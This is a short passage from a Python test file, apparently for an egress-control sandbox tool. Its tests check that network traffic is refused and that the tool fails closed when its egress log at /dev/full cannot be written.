        self.assertEqual(self.inside(code, *rules), "refused")
        self.assertEqual(self.came_in()["datagrams"], 0)

    def test_i13_a_log_that_is_full(self):
        done = run("--allow", "api.good.test", "--egress-log", "/dev/full", "--", "/usr/bin/python3", "-c",
                   inspect_test.egress_test.PROLOGUE + "print(by_name('api.good.test'), by_name('api.good.test'))")
        self.assertNotIn(b"ok", done.stdout)
        self.assertEqual(self.came_in()["connections"], [])


if __name__ == "__main__":
    main(sys.modules["__main__"])
